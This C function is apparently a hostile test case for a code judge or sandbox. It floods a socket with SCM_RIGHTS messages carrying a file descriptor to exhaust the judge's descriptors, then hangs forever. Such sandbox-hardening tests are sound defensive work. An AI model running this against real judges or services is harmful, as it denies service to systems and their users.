// descriptors for the judge, so that it runs out of them
// expects: protocol
// at: call
static int attack(void)
{
    union {
        char space[CMSG_SPACE(sizeof(int))];
        struct cmsghdr align;
    } control = {{0}};
    struct iovec part = {"fdfd", 4};
    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = control.space, .msg_controllen = sizeof control.space};
    struct cmsghdr *c = CMSG_FIRSTHDR(&message);
    int fd = 3;
    c->cmsg_level = SOL_SOCKET, c->cmsg_type = SCM_RIGHTS, c->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(c), &fd, sizeof fd);
    for (int i = 0; i < 300; i++) sendmsg(3, &message, MSG_DONTWAIT);
    for (;;) pause();
}
